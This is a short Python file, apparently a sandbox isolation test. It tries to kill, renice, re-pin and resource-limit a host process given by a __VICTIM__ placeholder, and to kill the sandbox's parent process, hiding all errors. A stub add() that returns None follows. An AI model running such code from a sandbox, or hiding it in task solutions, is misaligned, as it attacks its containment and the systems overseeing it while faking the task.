# escape: kill, renice, re-pin and re-limit a host process (and the parent, and process groups)
import os
import signal

VICTIM = __VICTIM__
for attempt in (
    lambda: os.kill(VICTIM, signal.SIGKILL),
    lambda: os.killpg(VICTIM, signal.SIGKILL),
    lambda: os.kill(os.getppid(), signal.SIGKILL) if os.getppid() > 1 else None,
    lambda: os.setpriority(os.PRIO_PROCESS, VICTIM, 19),
    lambda: os.sched_setaffinity(VICTIM, {0}),
    lambda: os.sched_setscheduler(VICTIM, os.SCHED_IDLE, os.sched_param(0)),
    lambda: __import__("resource").prlimit(VICTIM, __import__("resource").RLIMIT_NOFILE, (3, 3)),
    lambda: os.pidfd_open(VICTIM),
):
    try:
        attempt()
    except Exception:
        pass


def add(a, b):
    return None
